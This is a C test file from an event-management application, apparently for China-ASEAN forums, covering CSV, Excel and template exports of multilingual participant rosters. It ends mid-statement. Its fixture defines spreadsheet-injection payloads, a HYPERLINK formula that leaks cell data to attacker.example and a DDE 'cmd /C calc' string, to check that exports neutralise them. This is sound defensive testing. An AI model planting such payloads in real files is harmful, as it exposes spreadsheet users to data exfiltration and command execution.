/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <glib/gi18n.h>
#include <json-glib/json-glib.h>
#include <libical/ical.h>
#include <locale.h>
#include <string.h>

#include "liaison-csv-writer.h"
#include "liaison-document-text.h"
#include "liaison-export-template.h"
#include "liaison-ics-export.h"
#include "liaison-io-error.h"
#include "liaison-itip.h"
#include "liaison-print-document.h"
#include "liaison-xlsx-writer.h"
#include "test-util.h"

/* Files out: what Liaison exports, read back as other programs read it
 * (Python's csv module, openpyxl, libical, poppler's pdftotext and
 * pdffonts, zbar's zbarimg). People of all eleven countries, written as
 * they write their names; some cells written to attack a spreadsheet. */

extern int _nl_msg_cat_cntr;

#define ZH LIAISON_LANGUAGE_ZH
#define EN LIAISON_LANGUAGE_EN

typedef struct
{
  const char               *country;
  const char               *family;
  const char               *given;
  const char               *family_latin;
  const char               *given_latin;
  LiaisonNameOrder          order;
  const char               *honorific;
  const char               *email;
  const char               *organisation_zh;
  const char               *organisation_en;
  const char               *language;
  LiaisonRole               role;
  LiaisonRegistrationStatus status;
} Person;

static const Person people[] = {
  { "CN", "李", "霞", "Li", "Xia", LIAISON_NAME_ORDER_FAMILY_FIRST, NULL, "li.xia@mee.gov.cn", "生态环境部", "Ministry of Ecology and Environment", "中文", LIAISON_ROLE_SPEAKER, LIAISON_REGISTRATION_ATTENDED },
  { "VN", "Nguyễn", "Thị Minh Khai", "Nguyen", "Thi Minh Khai", LIAISON_NAME_ORDER_FAMILY_FIRST, NULL, "khai.nt@monre.gov.vn", NULL, "Ministry of Natural Resources and Environment", "Vietnamese, English", LIAISON_ROLE_DELEGATE, LIAISON_REGISTRATION_CONFIRMED },
  { "TH", "ใจดี", "สมชาย", "Jaidee", "Somchai", LIAISON_NAME_ORDER_GIVEN_FIRST, "Dr", "somchai.j@onep.go.th", NULL, "Office of Natural Resources and Environmental Policy and Planning", "th", LIAISON_ROLE_MODERATOR, LIAISON_REGISTRATION_ATTENDED },
  { "KH", "ចាន់", "សុខា", "Chan", "Sokha", LIAISON_NAME_ORDER_FAMILY_FIRST, "H.E.", "sokha.chan@moe.gov.kh", NULL, "Ministry of Environment", NULL, LIAISON_ROLE_VIP, LIAISON_REGISTRATION_CONFIRMED },
  { "LA", "ພົມມະຈັນ", "ສົມພອນ", "Phommachanh", "Somphone", LIAISON_NAME_ORDER_GIVEN_FIRST, NULL, "somphone@monre.gov.la", NULL, "Ministry of Natural Resources and Environment", "Lao", LIAISON_ROLE_DELEGATE, LIAISON_REGISTRATION_REGISTERED },
  { "MM", NULL, "အောင်ကျော်မိုး", NULL, "Aung Kyaw Moe", LIAISON_NAME_ORDER_MONONYM, "U", "aungkyawmoe@ecd.gov.mm", NULL, "Environmental Conservation Department", NULL, LIAISON_ROLE_DELEGATE, LIAISON_REGISTRATION_INVITED },
  { "ID", NULL, NULL, NULL, "Sutrisno", LIAISON_NAME_ORDER_MONONYM, NULL, "sutrisno@menlhk.go.id", NULL, "Ministry of Environment and Forestry", "Bahasa Indonesia, English", LIAISON_ROLE_OBSERVER, LIAISON_REGISTRATION_INVITED },
  { "MY", NULL, NULL, "bin Ismail", "Ahmad", LIAISON_NAME_ORDER_GIVEN_FIRST, "Dato'", "ahmad.ismail@nres.gov.my", NULL, "Ministry of Natural Resources, Environment and Climate Change", "en", LIAISON_ROLE_DELEGATE, LIAISON_REGISTRATION_ATTENDED },
  { "BN", NULL, NULL, "Abdul Rahman", "Haji", LIAISON_NAME_ORDER_GIVEN_FIRST, "Pengiran", "haji.rahman@env.gov.bn", NULL, "Department of Environment, Parks and Recreation", NULL, LIAISON_ROLE_ORGANISER, LIAISON_REGISTRATION_DECLINED },
  { "SG", "陈", "伟玲", "Tan", "Wei Ling", LIAISON_NAME_ORDER_FAMILY_FIRST, NULL, NULL, "国家环境局", "National Environment Agency", "English, 华语", LIAISON_ROLE_STAFF, LIAISON_REGISTRATION_CONFIRMED },
  { "PH", NULL, NULL, "Dela Cruz", "Maria", LIAISON_NAME_ORDER_GIVEN_FIRST, NULL, "mdelacruz@denr.gov.ph", NULL, "Department of Environment and Natural Resources", NULL, LIAISON_ROLE_INTERPRETER, LIAISON_REGISTRATION_WAITLISTED },
};

typedef struct
{
  char         *dir;
  LiaisonStore *store;
  char         *event;
  char         *month_event;
  GPtrArray    *participants;  /* ids, in the order of people[] */
  GPtrArray    *registrations; /* ids, in the order of people[] */
} Fixture;

/* The waitlisted comes last: a place freed before would move her up. */

/* What a spreadsheet would run: set by whoever typed the roster. */
#define HOSTILE_ORGANISATION "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"
#define HOSTILE_POSITION "@SUM(1+1)*cmd|' /C calc'!A0"
#define HOSTILE_NOTES "\t=1+2\nsecond line, with \"quotes\""

static char *
add_participant (Fixture *f, const Person *person)
{
  g_autoptr (LiaisonParticipant) p = liaison_participant_new (NULL);
  g_autoptr (GError) error = NULL;
  const char *emails[] = { person->email, NULL };
  const char *languages[] = { person->language, NULL };

  liaison_participant_set_native_name (p, person->family, person->given);
  liaison_participant_set_latin_name (p, person->family_latin, person->given_latin);
  liaison_participant_set_name_order (p, person->order);
  liaison_participant_set_honorific (p, person->honorific);
  liaison_participant_set_country (p, person->country);
  liaison_participant_set_emails (p, person->email != NULL ? emails : NULL);
  liaison_participant_set_languages (p, person->language != NULL ? languages : NULL);
  liaison_bilingual_set_text (liaison_participant_get_organisation (p), ZH, person->organisation_zh);
  liaison_bilingual_set_text (liaison_participant_get_organisation (p), EN, person->organisation_en);
  liaison_participant_set_sector (p, LIAISON_SECTOR_GOVERNMENT);
  g_assert_true (liaison_store_save_participant (f->store, p, LIAISON_ORIGIN_LOCAL, &error));
  g_assert_no_error (error);
  return g_strdup (liaison_participant_get_id (p));
}

static void
fixture_set_up (Fixture *f, gconstpointer data)
{
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (LiaisonEvent) event = liaison_event_new (NULL);
  g_autoptr (LiaisonEvent) month = liaison_event_new (NULL);

  f->dir = test_make_dir ();
  path = g_build_filename (f->dir, "liaison.db", NULL);
  f->store = liaison_store_open (path, &error);
  g_assert_no_error (error);

  /* A title with what iCalendar must escape, and a zone at UTC+6:30. */
  liaison_bilingual_set_text (liaison_event_get_title (event), ZH, "2025年中国-东盟环境合作论坛；海洋减塑, 蓝色伙伴关系");
  liaison_bilingual_set_text (liaison_event_get_title (event), EN, "China-ASEAN Environmental Cooperation Forum 2025; Marine Plastics, Blue Partnership \\ Yangon");
  liaison_bilingual_set_text (liaison_event_get_description (event), ZH, "论坛包括部长级对话。\n第二段。");
  liaison_bilingual_set_text (liaison_event_get_description (event), EN, "The forum includes the Ministerial Dialogue.\nSecond paragraph.");
  liaison_bilingual_set_text (liaison_event_get_city (event), ZH, "仰光");
  liaison_bilingual_set_text (liaison_event_get_city (event), EN, "Yangon");
  g_assert_true (liaison_event_set_when (event, "2025-11-04T09:30", "2025-11-05T17:00", "Asia/Yangon", &error));
  liaison_event_set_kind (event, LIAISON_EVENT_KIND_FORUM);
  liaison_event_set_status (event, LIAISON_EVENT_STATUS_CONFIRMED);
  liaison_event_set_country (event, "MM");
  liaison_event_set_venue (event, "Myanmar International Convention Centre 2");
  liaison_event_set_capacity (event, 400);
  g_assert_true (liaison_store_save_event (f->store, event, LIAISON_ORIGIN_LOCAL, &error));
  f->event = g_strdup (liaison_event_get_id (event));

  /* As the history knows many events: by month only. */
  liaison_bilingual_set_text (liaison_event_get_title (month), ZH, "中国-东盟环境合作研讨会");
  g_assert_true (liaison_event_set_when (month, "2019-09", NULL, NULL, &error));
  liaison_event_set_kind (month, LIAISON_EVENT_KIND_SEMINAR);
  g_assert_true (liaison_store_save_event (f->store, month, LIAISON_ORIGIN_LOCAL, &error));
  f->month_event = g_strdup (liaison_event_get_id (month));

  f->participants = g_ptr_array_new_with_free_func (g_free);
  f->registrations = g_ptr_array_new_with_free_func (g_free);
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      char *id = add_participant (f, &people[i]);
      g_autoptr (LiaisonRegistration) r =
          liaison_store_register (f->store, f->event, id, people[i].role,
                                  people[i].status == LIAISON_REGISTRATION_WAITLISTED || people[i].status == LIAISON_REGISTRATION_INVITED ? people[i].status : LIAISON_REGISTRATION_REGISTERED,
                                  LIAISON_ORIGIN_LOCAL, &error);

      g_assert_no_error (error);
      g_ptr_array_add (f->participants, id);
      g_ptr_array_add (f->registrations, g_strdup (liaison_registration_get_id (r)));
      /* Through the allowed steps to where the person is. */
      if (people[i].status == LIAISON_REGISTRATION_CONFIRMED || people[i].status == LIAISON_REGISTRATION_DECLINED)
        g_assert_true (liaison_store_set_registration_status (f->store, liaison_registration_get_id (r), people[i].status,
                                                              LIAISON_ORIGIN_LOCAL, NULL, &error));
      if (people[i].status == LIAISON_REGISTRATION_ATTENDED)
        {
          g_autoptr (LiaisonRegistration) in = liaison_store_check_in (f->store, liaison_registration_get_id (r), LIAISON_ORIGIN_LOCAL, &error);

          g_assert_nonnull (in);
        }
      g_assert_no_error (error);
    }
  {
    g_autoptr (LiaisonRegistration) r = liaison_store_get_registration (f->store, g_ptr_array_index (f->registrations, 1), &error);

    liaison_registration_set_notes (r, HOSTILE_NOTES);
    g_assert_true (liaison_store_update_registration (f->store, r, LIAISON_ORIGIN_LOCAL, &error));
  }
  {
    g_autoptr (LiaisonParticipant) p = liaison_store_get_participant (f->store, g_ptr_array_index (f->participants, 1), &error);
    const char *phones[] = { "+84 24 3795 6868", NULL };

    liaison_bilingual_set_text (liaison_participant_get_organisation (p), EN, HOSTILE_ORGANISATION);
    liaison_bilingual_set_text (liaison_participant_get_position (p), EN, HOSTILE_POSITION);
    liaison_participant_set_phones (p, phones);
    g_assert_true (liaison_store_save_participant (f->store, p, LIAISON_ORIGIN_LOCAL, &error));
  }
  g_assert_no_error (error);
}

static void
fixture_tear_down (Fixture *f, gconstpointer data)
{
  liaison_store_close (f->store);
  g_assert_finalize_object (f->store);
  test_remove_tree (f->dir);
  g_free (f->dir);
  g_free (f->event);
  g_free (f->month_event);
  g_ptr_array_unref (f->participants);
  g_ptr_array_unref (f->registrations);
}

/* ------------------------------------------------------------------------ */
/* Helpers                                                                   */

static char *
run (const char *const *argv, int *status)
{
  g_autoptr (GError) error = NULL;
  char *out = NULL;
  char *err = NULL;

  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &out, &err, status, &error);
  g_assert_no_error (error);
  if (status != NULL && *status != 0)
    g_test_message ("%s: %s", argv[0], err);
  g_free (err);
  return out;
}

static gboolean
have (const char *program)
{
  g_autofree char *path = g_find_program_in_path (program);

  if (path == NULL)
    {
      g_autofree char *message = g_strdup_printf ("%s is not installed (tools/setup test installs it)", program);
      g_test_skip (message);
    }
  return path != NULL;
}

static JsonNode *
read_back (const char *kind, const char *path)
{
  g_autofree char *script = g_test_build_filename (G_TEST_DIST, "export-read.py", NULL);
  const char      *argv[] = { "/usr/bin/python3", script, kind, path, NULL };
  int              status;
  g_autofree char *out = run (argv, &status);
  g_autoptr (GError) error = NULL;
  JsonNode *node;

  g_assert_cmpint (status, ==, 0);
  node = json_from_string (out, &error);
  g_assert_no_error (error);
  return node;
}

static char *
path_in (Fixture *f, const char *name)
{
  return g_build_filename (f->dir, name, NULL);
}

static int
column_of (JsonArray *header, const char *name)
{
  for (guint i = 0; i < json_array_get_length (header); i++)
    if (g_strcmp0 (json_array_get_string_element (header, i), name) == 0)
      return (int) i;
  return -1;
}

static JsonArray *
row_with (JsonArray *rows, int column, const char *value)
{
  for (guint i = 1; i < json_array_get_length (rows); i++)
    {
      JsonArray *row = json_array_get_array_element (rows, i);

      if (g_strcmp0 (json_array_get_string_element (row, column), value) == 0)
        return row;
    }
  return NULL;
}

/* ------------------------------------------------------------------------ */
/* Words of documents                                                        */

static void
check_labels (GType type, const char *(*label) (int), LiaisonLanguage lang)
{
  g_autoptr (GEnumClass) klass = g_type_class_ref (type);

  for (guint v = klass->minimum; v <= (guint) klass->maximum; v++)
    g_assert_cmpstr (liaison_document_enum_label (type, v, lang), ==, label (v));
}

#define LABEL_FUNC(name, fn) \
  static const char *name (int v) { return fn (v); }
LABEL_FUNC (kind_label, liaison_event_kind_label)
LABEL_FUNC (event_status_label, liaison_event_status_label)
LABEL_FUNC (mode_label, liaison_event_mode_label)
LABEL_FUNC (funding_label, liaison_funding_source_label)
LABEL_FUNC (role_label, liaison_role_label)
LABEL_FUNC (status_label, liaison_registration_status_label)
LABEL_FUNC (sector_label, liaison_sector_label)
LABEL_FUNC (gender_label, liaison_gender_label)
#undef LABEL_FUNC

static void
check_all_labels (LiaisonLanguage lang)
{
  check_labels (LIAISON_TYPE_EVENT_KIND, kind_label, lang);
  check_labels (LIAISON_TYPE_EVENT_STATUS, event_status_label, lang);
  check_labels (LIAISON_TYPE_EVENT_MODE, mode_label, lang);
  check_labels (LIAISON_TYPE_FUNDING_SOURCE, funding_label, lang);
  check_labels (LIAISON_TYPE_ROLE, role_label, lang);
  check_labels (LIAISON_TYPE_REGISTRATION_STATUS, status_label, lang);
  check_labels (LIAISON_TYPE_SECTOR, sector_label, lang);
  check_labels (LIAISON_TYPE_GENDER, gender_label, lang);
}

/* A document's words in each language are the interface's, as the
 * catalogue translates them. */
static void
test_labels (void)
{
  const char *localedir = g_getenv ("LIAISON_LOCALEDIR");
  int         value;

  g_assert_nonnull (localedir);
  setlocale (LC_ALL, "");
  bindtextdomain (GETTEXT_PACKAGE, localedir);
  bind_textdomain_codeset (GETTEXT_PACKAGE, "UTF-8");

  g_setenv ("LANGUAGE", "en", TRUE);
  ++_nl_msg_cat_cntr;
  check_all_labels (EN);
  g_setenv ("LANGUAGE", "zh_CN", TRUE);
  ++_nl_msg_cat_cntr;
  g_assert_cmpstr (liaison_role_label (LIAISON_ROLE_DELEGATE), ==, "代表");
  check_all_labels (ZH);
  g_setenv ("LANGUAGE", "en", TRUE);
  ++_nl_msg_cat_cntr;

  /* Read back in either language, or as the value the CLI takes. */
  g_assert_true (liaison_document_enum_parse (LIAISON_TYPE_ROLE, "贵宾", &value) && value == LIAISON_ROLE_VIP);
  g_assert_true (liaison_document_enum_parse (LIAISON_TYPE_ROLE, "vip", &value) && value == LIAISON_ROLE_VIP);
  g_assert_true (liaison_document_enum_parse (LIAISON_TYPE_SECTOR, "international ORGANISATION", &value) && value == LIAISON_SECTOR_INTERNATIONAL_ORGANISATION);
  g_assert_false (liaison_document_enum_parse (LIAISON_TYPE_ROLE, "Speaker!", &value));
}

/* ------------------------------------------------------------------------ */
/* CSV                                                                       */

static void
test_neutralise (void)
{
  static const char *cases[][2] = {
    { "=1+2", "'=1+2" },
    { "+66 2 555 0101", "'+66 2 555 0101" },
    { "-2+3", "'-2+3" },
    { "@SUM(A1)", "'@SUM(A1)" },
    { "\t=cmd", "'\t=cmd" },
    { "\r=cmd", "'\r=cmd" },
    { "a=b", "a=b" },
    { "李霞", "李霞" },
    { "'quoted", "'quoted" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *safe = liaison_csv_neutralise (cases[i][0]);
      g_assert_cmpstr (safe, ==, cases[i][1]);
    }
  g_assert_null (liaison_csv_neutralise (NULL));
}

/* What a reader does with a neutralised cell: the apostrophe goes. */
static const char *
unneutralised (const char *cell)
{
  if (cell[0] == '\'' && strchr ("=+-@\t\r", cell[1]) != NULL && cell[1] != '\0')
    return cell + 1;
  return cell;
}

static void
test_csv (Fixture *f, gconstpointer data)
{
  g_autofree char *path = path_in (f, "people.csv");
  g_autoptr (GError) error = NULL;
  g_autoptr (LiaisonExportTable) table = liaison_export_table_build (f->store, LIAISON_EXPORT_PARTICIPANTS, NULL, EN, NULL, NULL, &error);
  g_autoptr (JsonNode) node = NULL;
  JsonObject *result;
  JsonArray  *rows, *header;
  int         id_col, org_col, pos_col, phone_col, given_col, family_col;

  g_assert_no_error (error);
  g_assert_cmpuint (liaison_export_table_get_n_rows (table), ==, G_N_ELEMENTS (people));
  g_assert_true (liaison_csv_write_file (table, LIAISON_EXPORT_HEADERS_EN, path, &error));
  g_assert_no_error (error);

  node = read_back ("csv", path);
  result = json_node_get_object (node);
  g_assert_true (json_object_get_boolean_member (result, "bom"));
  g_assert_true (json_object_get_boolean_member (result, "crlf"));
  rows = json_object_get_array_member (result, "rows");
  g_assert_cmpuint (json_array_get_length (rows), ==, 1 + G_N_ELEMENTS (people));
  header = json_array_get_array_element (rows, 0);
  id_col = column_of (header, "ID");
  org_col = column_of (header, "Organisation (English)");
  pos_col = column_of (header, "Position (English)");
  phone_col = column_of (header, "Phone");
  given_col = column_of (header, "Given name");
  family_col = column_of (header, "Family name");
  g_assert_cmpint (id_col, ==, 0);
  g_assert_cmpint (org_col, >, 0);

  /* Every person, every script, as typed. */
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      JsonArray *row = row_with (rows, id_col, g_ptr_array_index (f->participants, i));

      g_assert_nonnull (row);
      g_assert_cmpstr (json_array_get_string_element (row, given_col), ==, people[i].given ? people[i].given : "");
      g_assert_cmpstr (json_array_get_string_element (row, family_col), ==, people[i].family ? people[i].family : "");
    }

  /* Formulas are text; a phone number keeps its digits. */
  {
    JsonArray  *row = row_with (rows, id_col, g_ptr_array_index (f->participants, 1));
    const char *org = json_array_get_string_element (row, org_col);
    const char *pos = json_array_get_string_element (row, pos_col);
    const char *phone = json_array_get_string_element (row, phone_col);

    g_assert_cmpint (org[0], ==, '\'');
    g_assert_cmpint (pos[0], ==, '\'');
    g_assert_cmpint (phone[0], ==, '\'');
    g_assert_cmpstr (unneutralised (org), ==, HOSTILE_ORGANISATION);
    g_assert_cmpstr (unneutralised (pos), ==, HOSTILE_POSITION);
    g_assert_cmpstr (unneutralised (phone), ==, "+84 24 3795 6868");
  }
  /* No cell of the file starts a formula. */
  for (guint r = 0; r < json_array_get_length (rows); r++)
    {
      JsonArray *row = json_array_get_array_element (rows, r);

      for (guint c = 0; c < json_array_get_length (row); c++)
        {
          const char *text = json_array_get_string_element (row, c);

          if (text[0] != '\0' && strchr ("=+-@\t\r", text[0]) != NULL)
            g_error ("row %u, column %u starts a formula: %s", r, c, text);
        }
    }
}

/* Notes with a tab, a line break, quotes and a comma come back whole;
 * dates as Excel reads them; headers in both languages. */
static void
test_csv_registrations (Fixture *f, gconstpointer data)
{
  const char        *columns[] = { "registration_id", "name", "event_start", "checked_in", "status", "notes", NULL };
  g_autofree char   *path = path_in (f, "registrations.csv");
  LiaisonExportScope scope = { f->event, NULL, NULL };
  g_autoptr (GError) error = NULL;
  g_autoptr (LiaisonExportTable) table = liaison_export_table_build (f->store, LIAISON_EXPORT_REGISTRATIONS, columns, ZH, &scope, NULL, &error);
  g_autoptr (JsonNode) node = NULL;
  JsonArray *rows, *header, *row;

  g_assert_no_error (error);
  g_assert_true (liaison_csv_write_file (table, LIAISON_EXPORT_HEADERS_BOTH, path, &error));
  node = read_back ("csv", path);
  rows = json_object_get_array_member (json_node_get_object (node), "rows");
  header = json_array_get_array_element (rows, 0);
  g_assert_cmpstr (json_array_get_string_element (header, 0), ==, "报名编号 Registration ID");
  g_assert_cmpstr (json_array_get_string_element (header, 5), ==, "备注 Notes");
  g_assert_cmpuint (json_array_get_length (rows), ==, 1 + G_N_ELEMENTS (people));

  row = row_with (rows, 0, g_ptr_array_index (f->registrations, 1));
  g_assert_cmpstr (unneutralised (json_array_get_string_element (row, 5)), ==, HOSTILE_NOTES);
  g_assert_cmpstr (json_array_get_string_element (row, 2), ==, "2025-11-04 09:30");
  g_assert_cmpstr (json_array_get_string_element (row, 4), ==, "已确认");
  row = row_with (rows, 0, g_ptr_array_index (f->registrations, 0));
  g_assert_cmpstr (json_array_get_string_element (row, 1), ==, "李霞");
  g_assert_cmpstr (json_array_get_string_element (row, 4), ==, "已出席");
  /* Checked in just now, in local time (TZ=Asia/Shanghai in the suite). */
  {
    g_autoptr (GDateTime) now = g_date_time_new_now_local ();
    g_autofree char *today = g_date_time_format (now, "%Y-%m-%d ");

    g_assert_true (g_str_has_prefix (json_array_get_string_element (row, 3), today));
  }

  /* Every registration of every event: the month-only event has none. */
  {
    g_autoptr (LiaisonExportTable) all = liaison_export_table_build (f->store, LIAISON_EXPORT_REGISTRATIONS, NULL, EN, NULL, NULL, &error);

    g_assert_no_error (error);
    g_assert_cmpuint (liaison_export_table_get_n_rows (all), ==, G_N_ELEMENTS (people));
  }
}

static void
test_columns (Fixture *f, gconstpointer data)
{
  const char *unknown[] = { "name", "shoe_size", NULL };
  const char *twice[] = { "name", "name", NULL };
  const char *none[] = { NULL };
  g_autoptr (GError) error = NULL;
  g_auto (GStrv) defaults = liaison_export_default_columns (LIAISON_EXPORT_EVENTS);

  g_assert_null (liaison_export_table_build (f->store, LIAISON_EXPORT_PARTICIPANTS, unknown, EN, NULL, NULL, &error));
  g_assert_error (error, LIAISON_IO_ERROR, LIAISON_IO_ERROR_UNSUPPORTED);
  g_assert_nonnull (strstr (error->message, "shoe_size"));
  g_clear_error (&error);
  g_assert_false (liaison_export_check_columns (LIAISON_EXPORT_PARTICIPANTS, twice, &error));
  g_clear_error (&error);
  g_assert_false (liaison_export_check_columns (LIAISON_EXPORT_PARTICIPANTS, none, &error));
  g_clear_error (&error);
  g_assert_true (g_strv_contains ((const char *const *) defaults, "title_zh"));
  g_assert_false (g_strv_contains ((const char *const *) defaults, "budget"));

  /* A search exports only what it finds. */
  {
    LiaisonExportScope scope = { NULL, "somchai", NULL };
    g_autoptr (LiaisonExportTable) table = liaison_export_table_build (f->store, LIAISON_EXPORT_PARTICIPANTS, NULL, EN, &scope, NULL, &error);

    g_assert_no_error (error);
    g_assert_cmpuint (liaison_export_table_get_n_rows (table), ==, 1);
  }
}

/* ------------------------------------------------------------------------ */
/* Excel                                                                     */

static JsonObject *
cell (JsonArray *rows, guint r, guint c)
{
  return json_array_get_object_element (json_array_get_array_element (rows, r), c);
}

static void
test_xlsx (Fixture *f, gconstpointer data)
{
  const char      *columns[] = { "title_zh", "title_en", "start", "capacity", "registration_deadline", "kind", NULL };
  g_autofree char *path = path_in (f, "events.xlsx");
  g_autoptr (GError) error = NULL;
  g_autoptr (LiaisonExportTable) table = NULL;
  g_autoptr (JsonNode) node = NULL;
  g_autoptr (LiaisonEvent) event = liaison_store_get_event (f->store, f->event, &error);
  JsonObject *book;
  JsonArray  *rows;
  guint       forum = 0, seminar = 0;

  if (!have ("/usr/bin/python3"))
    return;
  liaison_event_set_registration_deadline (event, "2025-10-20");
  g_assert_true (liaison_store_save_event (f->store, event, LIAISON_ORIGIN_LOCAL, &error));
  table = liaison_export_table_build (f->store, LIAISON_EXPORT_EVENTS, columns, ZH, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_true (liaison_xlsx_write_file (table, LIAISON_EXPORT_HEADERS_ZH, path, &error));
  g_assert_no_error (error);
  {
    g_autofree char *part = g_strconcat (path, ".part", NULL);
    g_assert_false (g_file_test (part, G_FILE_TEST_EXISTS));
  }

  node = read_back ("xlsx", path);
  book = json_node_get_object (node);
  g_assert_cmpint (json_object_get_int_member (book, "sheets"), ==, 1);
  g_assert_cmpstr (json_object_get_string_member (book, "title"), ==, "活动");
  g_assert_cmpstr (json_object_get_string_member (book, "freeze_panes"), ==, "A2");
  g_assert_cmpstr (json_object_get_string_member (book, "autofilter"), ==, "A1:F65");
  g_assert_true (json_object_has_member (json_object_get_object_member (book, "widths"), "A"));
  g_assert_cmpfloat (json_object_get_double_member (json_object_get_object_member (book, "widths"), "A"), >=, 30);

  rows = json_object_get_array_member (book, "rows");
  /* 62 events of the history, and the fixture's two. */
  g_assert_cmpuint (json_array_get_length (rows), ==, 1 + 64);
  g_assert_cmpstr (json_object_get_string_member (cell (rows, 0, 0), "value"), ==, "标题（中文）");
  g_assert_true (json_object_get_boolean_member (cell (rows, 0, 0), "bold"));
  g_assert_cmpstr (json_object_get_string_member (cell (rows, 0, 3), "value"), ==, "名额");
  for (guint r = 1; r < json_array_get_length (rows); r++)
    {
      const char *title = json_object_get_string_member_with_default (cell (rows, r, 0), "value", "");

      if (g_str_has_prefix (title, "2025年中国-东盟环境合作论坛"))
        forum = r;
      if (g_str_equal (title, "中国-东盟环境合作研讨会"))
        seminar = r;
    }
  g_assert_cmpuint (forum, >, 0);
  g_assert_cmpuint (seminar, >, 0);
  /* A time is a date with its hours, a day a date, a number a number. */
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 2), "type"), ==, "date");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 2), "value"), ==, "2025-11-04T09:30:00");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 2), "format"), ==, "yyyy-mm-dd hh:mm");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 3), "type"), ==, "number");
  g_assert_cmpint (json_object_get_int_member (cell (rows, forum, 3), "value"), ==, 400);
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 4), "type"), ==, "date");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 4), "value"), ==, "2025-10-20T00:00:00");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 5), "value"), ==, "论坛");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, forum, 1), "value"), ==,
                   "China-ASEAN Environmental Cooperation Forum 2025; Marine Plastics, Blue Partnership \\ Yangon");
  /* A month is not a day: it stays as written. */
  g_assert_cmpstr (json_object_get_string_member (cell (rows, seminar, 2), "type"), ==, "text");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, seminar, 2), "value"), ==, "2019-09");
  g_assert_cmpstr (json_object_get_string_member (cell (rows, seminar, 1), "type"), ==, "empty");
}

/* A formula in a cell is text in a workbook: nothing to neutralise. */
static void
test_xlsx_text (Fixture *f, gconstpointer data)
{
  const char      *columns[] = { "id", "organisation_en", "phone", NULL };
  g_autofree char *path = path_in (f, "people.xlsx");
  g_autoptr (GError) error = NULL;
  g_autoptr (LiaisonExportTable) table = liaison_export_table_build (f->store, LIAISON_EXPORT_PARTICIPANTS, columns, EN, NULL, NULL, &error);
  g_autoptr (JsonNode) node = NULL;
  JsonArray *rows;
  gboolean   found = FALSE;

  if (!have ("/usr/bin/python3"))
    return;
  g_assert_true (liaison_xlsx_write_file (table, LIAISON_EXPORT_HEADERS_EN, path, &error));
  g_assert_no_error (error);
  node = read_back ("xlsx", path);
  rows = json_object_get_array_member (json_node_get_object (node), "rows");
  for (guint r = 1; r < json_array_get_length (rows); r++)
    if (g_strcmp0 (json_object_get_string_member (cell (rows, r, 0), "value"), g_ptr_array_index (f->participants, 1)) == 0)
      {
        found = TRUE;
        g_assert_cmpstr (json_object_get_string_member (cell (rows, r, 1), "type"), ==, "text");
        g_assert_cmpstr (json_object_get_string_member (cell (rows, r, 1), "value"), ==, HOSTILE_ORGANISATION);
        g_assert_cmpstr (json_object_get_string_member (cell (rows, r, 2), "value"), ==, "+84 24 3795 6868");
      }
  g_assert_true (found);
}

/* ------------------------------------------------------------------------ */
/* Templates                                                                 */

static void
test_templates (void)
{
  g_autoptr (GSettings) settings = g_settings_new ("org.chinaaseanenv.Liaison");
  const char *columns[] = { "name", "country_name", "email", NULL };
  const char *other[] = { "title_en", NULL };
  const char *bad[] = { "name", "nope", NULL };
  g_autoptr (LiaisonExportTemplate) roster = liaison_export_template_new ("Roster 名单", LIAISON_EXPORT_REGISTRATIONS, ZH, LIAISON_EXPORT_HEADERS_BOTH, columns);
  g_autoptr (LiaisonExportTemplate) events = liaison_export_template_new ("Roster 名单", LIAISON_EXPORT_EVENTS, EN, LIAISON_EXPORT_HEADERS_EN, other);
  g_autoptr (LiaisonExportTemplate) broken = liaison_export_template_new ("Broken", LIAISON_EXPORT_REGISTRATIONS, EN, LIAISON_EXPORT_HEADERS_EN, bad);
  g_autoptr (LiaisonExportTemplate) unnamed = liaison_export_template_new ("  ", LIAISON_EXPORT_REGISTRATIONS, EN, LIAISON_EXPORT_HEADERS_EN, columns);
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) list = NULL;
  g_autoptr (LiaisonExportTemplate) found = NULL;

  g_assert_true (liaison_export_templates_save (settings, roster, &error));
  g_assert_true (liaison_export_templates_save (settings, events, &error));
  g_assert_false (liaison_export_templates_save (settings, broken, &error));
  g_clear_error (&error);
  g_assert_false (liaison_export_templates_save (settings, unnamed, &error));
  g_clear_error (&error);

  list = liaison_export_templates_list (settings, LIAISON_EXPORT_REGISTRATIONS);
  g_assert_cmpuint (list->len, ==, 1);
  found = liaison_export_templates_find (settings, LIAISON_EXPORT_REGISTRATIONS, "Roster 名单");
  g_assert_nonnull (found);
  g_assert_cmpint (found->language, ==, ZH);
  g_assert_cmpint (found->headers, ==, LIAISON_EXPORT_HEADERS_BOTH);
  g_assert_cmpstrv (found->columns, columns);
  g_clear_pointer (&found, liaison_export_template_free);

  /* Saving the same name again replaces it; deleting leaves the other kind's. */
  g_clear_pointer (&roster->columns[2], g_free);
  g_assert_true (liaison_export_templates_save (settings, roster, &error));
  found = liaison_export_templates_find (settings, LIAISON_EXPORT_REGISTRATIONS, "Roster 名单");
  g_assert_cmpuint (g_strv_length (found->columns), ==, 2);
  g_assert_true (liaison_export_templates_delete (settings, LIAISON_EXPORT_REGISTRATIONS, "Roster 名单"));
  g_assert_null (liaison_export_templates_find (settings, LIAISON_EXPORT_REGISTRATIONS, "Roster 名单"));
  g_clear_pointer (&found, liaison_export_template_free);
  found = liaison_export_templates_find (settings, LIAISON_EXPORT_EVENTS, "Roster 名单");
  g_assert_nonnull (found);

  /* A template naming a column this version lacks is left out, not half used. */
  g_settings_set_value (settings, "export-templates",
